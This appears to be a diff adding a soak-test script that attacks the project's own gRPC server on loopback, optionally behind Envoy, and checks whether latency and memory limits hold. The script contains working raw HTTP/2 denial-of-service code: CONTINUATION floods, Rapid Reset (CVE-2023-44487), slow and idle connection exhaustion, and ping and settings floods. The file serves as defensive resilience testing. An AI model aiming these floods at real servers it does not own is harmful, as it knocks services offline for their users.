@@ -1,0 +1,475 @@
+"""Attacks a synthesis server of its own on a loopback address, while a well-behaved client calls it.
+
+    python soak/attack_server.py --seconds 10
+    python soak/attack_server.py --seconds 10 --envoy .venv-checkers/bin/envoy
+
+Each attack has a server of its own, started by this program, and ends after the given seconds. The attackers are
+processes that write raw HTTP/2 (RFC 9113) over sockets and have no token. The client is a real one, which checks a
+small model every ten milliseconds. The table has, for each attack, the calls of the client, how many of them failed,
+their median, their 99th percentile and the worst one, and the most memory that the server (and Envoy) took.
+
+With `--envoy`, the server listens on a Unix socket and everything comes through Envoy, with the limits of `deploy/`.
+
+Exit status: 0 all limits are held, 1 some are not, 2 wrong use.
+"""
+
+import argparse
+import contextlib
+import json
+import multiprocessing
+import resource
+import signal
+import socket
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import asdict, dataclass
+from pathlib import Path
+from typing import Any
+
+import yaml
+
+ROOT = Path(__file__).parents[1]
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+ACK, END_HEADERS = 1, 4
+FRAME_BYTES = 16 * 1024
+CHECK_PATH = b"/robosc_api.v1.SynthesisService/Check"
+MODEL = "robot lamp {\n}\n"
+
+P99_S, MEMORY_BYTES = 0.2, 300 * 2**20
+"""Limits that the server is to hold: the client's 99th percentile, and the server's memory."""
+
+CALL_EVERY_S = 0.01
+DEADLINE_S = 20.0
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """A frame of HTTP/2."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    """A header field that enters no table, without Huffman codes; at most 126 bytes of each."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def call_headers(path: bytes = CHECK_PATH) -> bytes:
+    """The header block of a call of gRPC."""
+    fields = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"localhost"}
+    fields |= {b"te": b"trailers", b"content-type": b"application/grpc"}
+    return b"".join(literal(name, value) for name, value in fields.items())
+
+
+class Deadline:
+    """Time until which an attack lasts."""
+
+    def __init__(self, seconds: float) -> None:
+        self._end_s = time.monotonic() + seconds
+
+    def __bool__(self) -> bool:
+        return time.monotonic() < self._end_s
+
+
+def connected(port: int, *, is_greeting: bool = True) -> socket.socket:
+    """A connection to the server on this machine, with the beginning of HTTP/2."""
+    line = socket.create_connection(("127.0.0.1", port), timeout=5)
+    if is_greeting:
+        line.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return line
+
+
+def flooded(port: int, deadline: Deadline, first: bytes, chunk: bytes, connections: int = 1) -> None:
+    """Send chunks on some connections for as long as the other end takes them, and connect again when it does not."""
+    lines: list[socket.socket | None] = [None] * connections
+    while deadline:
+        for number, line in enumerate(lines):
+            try:
+                if line is None:
+                    line = lines[number] = connected(port)
+                    line.sendall(first)
+                    line.setblocking(False)  # named by the library
+                with contextlib.suppress(BlockingIOError):
+                    # What came back is dropped, so that the other end never waits for this one.
+                    if not line.recv(2**20):
+                        raise ConnectionResetError
+                if connections == 1:
+                    line.settimeout(0.5)
+                    with contextlib.suppress(TimeoutError):
+                        line.sendall(chunk)
+                    line.setblocking(False)
+                else:
+                    line.send(chunk)
+            except BlockingIOError:
+                continue
+            except OSError:
+                if line is not None:
+                    line.close()
+                lines[number] = None
+                time.sleep(0.001)
+                if not deadline:
+                    return
+
+
+def continuation_fields(port: int, deadline: Deadline) -> None:
+    """One header block of small fields that does not end."""
+    fields = b"".join(literal(b"x-%06d" % number, b"v" * 60) for number in range(200))
+    flooded(port, deadline, frame(HEADERS, 0, 1, call_headers()), frame(CONTINUATION, 0, 1, fields[:FRAME_BYTES]) * 8)
+
+
+def continuation_text(port: int, deadline: Deadline) -> None:
+    """One header block with a single text of 2 GB."""
+    length = b"\x7f" + bytes([0x80, 0xFF, 0xFF, 0xFF, 0x07])
+    begin = frame(HEADERS, 0, 1, call_headers() + b"\x00" + bytes([1]) + b"x" + length)
+    flooded(port, deadline, begin, frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES) * 8)
+
+
+def continuation_many(port: int, deadline: Deadline) -> None:
+    """The same on 200 connections."""
+    length = b"\x7f" + bytes([0x80, 0xFF, 0xFF, 0xFF, 0x07])
+    begin = frame(HEADERS, 0, 1, call_headers() + b"\x00" + bytes([1]) + b"x" + length)
+    flooded(port, deadline, begin, frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES) * 8, connections=200)
+
+
+def continuation_empty(port: int, deadline: Deadline) -> None:
+    """A header block of frames without content."""
+    flooded(port, deadline, frame(HEADERS, 0, 1, call_headers()), frame(CONTINUATION, 0, 1) * 4096)
+
+
+def rapid_reset(port: int, deadline: Deadline) -> None:
+    """Calls that are begun and reset at once, on four connections (CVE-2023-44487)."""
+    headers = call_headers()
+    while deadline:
+        lines = []
+        try:
+            for _ in range(4):
+                lines.append(connected(port))
+                lines[-1].settimeout(0.5)
+            stream = 1
+            while deadline and stream < 2**30:
+                some = b"".join(
+                    frame(HEADERS, END_HEADERS, number, headers) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
+                    for number in range(stream, stream + 200, 2)
+                )
+                for line in lines:
+                    line.sendall(some)
+                    with contextlib.suppress(BlockingIOError):
+                        line.recv(2**20, socket.MSG_DONTWAIT)
+                stream += 200
+        except OSError:
+            time.sleep(0.001)
+        finally:
+            for line in lines:
+                line.close()
+
+
+def idle(port: int, deadline: Deadline) -> None:
+    """1,300 connections without a call, each made again when it is closed."""
+    _held(port, deadline, 1300, is_greeting=True)
+
+
+def slow(port: int, deadline: Deadline) -> None:
+    """1,300 connections that send a byte of the beginning now and then."""
+    _held(port, deadline, 1300, is_greeting=False)
+
+
+def _held(port: int, deadline: Deadline, count: int, *, is_greeting: bool) -> None:
+    lines: list[socket.socket | None] = [None] * count
+    sent = 0
+    while deadline:
+        for number, line in enumerate(lines):
+            if not deadline:
+                return
+            try:
+                if line is None:
+                    lines[number] = line = connected(port, is_greeting=is_greeting)
+                    line.setblocking(False)
+                elif not is_greeting and sent < len(PREFACE):
+                    line.send(PREFACE[sent : sent + 1])
+                with contextlib.suppress(BlockingIOError):
+                    if not line.recv(65536):
+                        raise ConnectionResetError
+            except OSError:
+                if line is not None:
+                    line.close()
+                lines[number] = None
+        sent += 1
+        time.sleep(0.2)
+
+
+def silent_calls(port: int, deadline: Deadline) -> None:
+    """Calls whose request never comes: 90 on each of 20 connections."""
+    headers = call_headers()
+    lines: list[socket.socket] = []
+    while deadline:
+        try:
+            if len(lines) < 20:
+                lines.append(connected(port))
+                lines[-1].sendall(b"".join(frame(HEADERS, END_HEADERS, number, headers) for number in range(1, 181, 2)))
+        except OSError:
+            pass
+        time.sleep(0.05)
+
+
+def pings(port: int, deadline: Deadline) -> None:
+    """Pings without end."""
+    flooded(port, deadline, b"", frame(PING, 0, 0, b"12345678") * 2048)
+
+
+def settings(port: int, deadline: Deadline) -> None:
+    """Changes of settings without end."""
+    flooded(port, deadline, b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 2048)
+
+
+def reconnecting(port: int, deadline: Deadline) -> None:
+    """Connections that are made and dropped, as fast as this machine makes them."""
+    while deadline:
+        with contextlib.suppress(OSError):
+            connected(port).close()
+
+
+def nothing(port: int, deadline: Deadline) -> None:
+    """No attack at all."""
+    while deadline:
+        time.sleep(0.1)
+
+
+ATTACKS: dict[str, Callable[[int, Deadline], None]] = {
+    "none": nothing,
+    "continuation-fields": continuation_fields,
+    "continuation-text": continuation_text,
+    "continuation-many": continuation_many,
+    "continuation-empty": continuation_empty,
+    "rapid-reset": rapid_reset,
+    "idle": idle,
+    "slow": slow,
+    "silent-calls": silent_calls,
+    "pings": pings,
+    "settings": settings,
+    "reconnecting": reconnecting,
+}
+
+
+@dataclass(frozen=True, slots=True)
+class Row:
+    """Outcome of one attack.
+
+    Attributes:
+        attack: Name of the attack.
+        calls: Calls of the well-behaved client.
+        failed: Those that failed.
+        median_s: Median of their times.
+        p99_s: 99th percentile of their times.
+        worst_s: The longest call.
+        memory_bytes: The most memory of the server.
+        door_bytes: The most memory of Envoy; 0: there is none.
+        first_failure: Message of the first failure; empty: there is none.
+    """
+
+    attack: str
+    calls: int
+    failed: int
+    median_s: float
+    p99_s: float
+    worst_s: float
+    memory_bytes: int
+    door_bytes: int
+    first_failure: str = ""
+
+    @property
+    def is_held(self) -> bool:
+        """True if the limits are held."""
+        return not self.failed and self.p99_s <= P99_S and self.memory_bytes <= MEMORY_BYTES
+
+
+def most_memory(process: int) -> int:
+    """The most resident memory that a process has had, in bytes."""
+    for line in Path(f"/proc/{process}/status").read_text(encoding="utf-8").splitlines():
+        if line.startswith("VmHWM:"):
+            return int(line.split()[1]) * 1024
+    return 0
+
+
+@contextlib.contextmanager
+def ended(process: "subprocess.Popen[str]") -> Iterator["subprocess.Popen[str]"]:
+    """End a process at the end of the context."""
+    try:
+        yield process
+    finally:
+        process.send_signal(signal.SIGTERM)
+        try:
+            process.wait(20)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            process.wait()
+
+
+@contextlib.contextmanager
+def running(server: Sequence[str], envoy: str | None) -> Iterator[tuple[int, int, int]]:
+    """Run a server; yield the port for callers, the server's process and Envoy's, 0 if there is none."""
+    with tempfile.TemporaryDirectory(prefix="robosc-attack-") as folder, contextlib.ExitStack() as stack:
+        where = ["--port", "0"] if envoy is None else ["--socket", f"{folder}/server.socket", "--forwarded-identity"]
+        words = [*server, *where, "--state-dir", folder, "--log-level", "warning", "--drain-seconds", "0"]
+        log = stack.enter_context((Path(folder) / "log").open("w", encoding="utf-8"))
+        process = stack.enter_context(
+            ended(
+                subprocess.Popen(
+                    # The soft limit on descriptors that most systems have.
+                    ["/bin/sh", "-c", 'ulimit -Sn 1024; exec "$@"', "sh", *words],
+                    stdout=subprocess.PIPE,
+                    stderr=log,
+                    text=True,
+                )
+            )
+        )
+        assert process.stdout is not None
+        line = process.stdout.readline()
+        if "listening on" not in line:
+            raise SystemExit(f"attack_server.py: the server did not start: {(Path(folder) / 'log').read_text()}")
+        address = line.split(";")[0].split()[-1]
+        if envoy is None:
+            yield int(address.rpartition(":")[2]), process.pid, 0
+            return
+        door_port = free_port()
+        file = Path(folder) / "envoy.yaml"
+        file.write_text(json.dumps(door_settings(door_port, Path(folder))), encoding="utf-8")
+        words = [envoy, "-c", str(file), "--log-level", "error", "--concurrency", "2", "--base-id", str(process.pid)]
+        door = stack.enter_context(ended(subprocess.Popen(words, stdout=log, stderr=log, text=True)))
+        wait_for_door(door_port)
+        yield door_port, process.pid, door.pid
+
+
+def door_settings(port: int, folder: Path) -> dict[str, Any]:
+    """Settings of Envoy as in `deploy/envoy/mtls.yaml`, without TLS, so that raw bytes reach it, and for one caller."""
+    settings: dict[str, Any] = yaml.safe_load((ROOT / "deploy" / "envoy" / "mtls.yaml").read_text(encoding="utf-8"))
+    settings["admin"]["address"]["pipe"]["path"] = str(folder / "admin.socket")
+    (listener,) = settings["static_resources"]["listeners"]
+    listener["address"]["socket_address"] = {"address": "127.0.0.1", "port_value": port}
+    (chain,) = listener["filter_chains"]
+    del chain["transport_socket"]
+    (host,) = chain["filters"][0]["typed_config"]["route_config"]["virtual_hosts"]
+    host["routes"][0]["request_headers_to_add"][0]["header"]["value"] = "somebody"
+    (cluster,) = settings["static_resources"]["clusters"]
+    (endpoints,) = cluster["load_assignment"]["endpoints"]
+    endpoints["lb_endpoints"][0]["endpoint"]["address"]["pipe"]["path"] = str(folder / "server.socket")
+    return settings
+
+
+def free_port() -> int:
+    """A port that is free now."""
+    with socket.create_server(("127.0.0.1", 0)) as place:
+        return int(place.getsockname()[1])
+
+
+def wait_for_door(port: int) -> None:
+    """Wait until something listens on the port."""
+    deadline = Deadline(20)
+    while deadline:
+        with contextlib.suppress(OSError):
+            socket.create_connection(("127.0.0.1", port)).close()
+            return
+        time.sleep(0.05)
+    raise SystemExit("attack_server.py: Envoy does not listen")
+
+
+def call_until(stop: float, port: int) -> tuple[list[float], list[str]]:
+    """Times of the calls of a well-behaved client until a time, and the messages of those that failed."""
+    from robosc import load
+    from robosc_client import Client, ClientError
+
+    times: list[float] = []
+    failures: list[str] = []
+    model = load(text=MODEL)
+    with Client(f"127.0.0.1:{port}") as client:
+        while (begun := time.monotonic()) < stop:
+            try:
+                client.check(model, deadline_s=DEADLINE_S)
+            except ClientError as error:
+                failures.append(f"{type(error).__name__}: {error}")
+            times.append(time.monotonic() - begun)
+            time.sleep(max(0.0, CALL_EVERY_S - times[-1]))
+    return times, failures
+
+
+def attacked(name: str, seconds: float, server: Sequence[str], envoy: str | None) -> Row:
+    """Run one attack."""
+    with running(server, envoy) as (port, process, door):
+        call_until(time.monotonic() + 0.5, port)
+        attacker = multiprocessing.get_context("fork").Process(
+            target=ATTACKS[name], args=(port, Deadline(seconds)), daemon=True
+        )
+        attacker.start()
+        times, failures = call_until(time.monotonic() + seconds, port)
+        attacker.join(5)
+        attacker.kill()
+        memory, door_memory = most_memory(process), most_memory(door) if door else 0
+    times.sort()
+    return Row(
+        name,
+        len(times),
+        len(failures),
+        times[len(times) // 2],
+        times[min(len(times) - 1, len(times) * 99 // 100)],
+        times[-1],
+        memory,
+        door_memory,
+        failures[0] if failures else "",
+    )
+
+
+def shown(row: Row) -> str:
+    """A line of the table."""
+    milliseconds = " | ".join(f"{seconds * 1000:8.1f}" for seconds in (row.median_s, row.p99_s, row.worst_s))
+    memory = f"{row.memory_bytes / 2**20:6.0f} | {row.door_bytes / 2**20:5.0f}"
+    held = "yes" if row.is_held else "NO"
+    return f"| {row.attack:<19} | {row.calls:5} | {row.failed:6} | {milliseconds} | {memory} | {held:<4} |"
+
+
+HEADING = (
+    "| attack              | calls | failed | median ms |   p99 ms | worst ms | server MB | Envoy MB | held |",
+    "| ------------------- | ----- | ------ | --------- | -------- | -------- | --------- | -------- | ---- |",
+)
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    """Run as the arguments say."""
+    parser = argparse.ArgumentParser(
+        prog="attack_server.py",
+        description=__doc__.partition("\n\n")[0],
+        epilog="attacks: "
+        + "; ".join(f"{name}: {(attack.__doc__ or '').rstrip('.')}" for name, attack in ATTACKS.items()),
+    )
+    parser.add_argument("--seconds", type=float, default=10.0, help="duration of each attack, at most 60 (default: 10)")
+    parser.add_argument(
+        "--attack", action="append", choices=tuple(ATTACKS), help="an attack; repeatable (default: all)"
+    )
+    parser.add_argument("--envoy", metavar="FILE", help="put this Envoy in front of the server")
+    parser.add_argument(
+        "--python", metavar="FILE", default=sys.executable, help="Python whose robosc_server is attacked"
+    )
+    parser.add_argument("--json", action="store_true", help="print the rows as JSON")
+    arguments = parser.parse_args(argv)
+    if not 0 < arguments.seconds <= 60:
+        parser.error("--seconds takes a number above 0, up to 60")
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(16384, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
+    server = [arguments.python, "-m", "robosc_server.main"]
+    rows = []
+    if not arguments.json:
+        print(*HEADING, sep="\n", flush=True)
+    for name in arguments.attack or ATTACKS:
+        rows.append(attacked(name, arguments.seconds, server, arguments.envoy))
+        if not arguments.json:
+            print(shown(rows[-1]), flush=True)
+            if rows[-1].first_failure:
+                print(f"  first failure: {rows[-1].first_failure}")
+    if arguments.json:
+        print(json.dumps([asdict(row) | {"held": row.is_held} for row in rows], indent=2))
+    return 0 if all(row.is_held for row in rows) else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
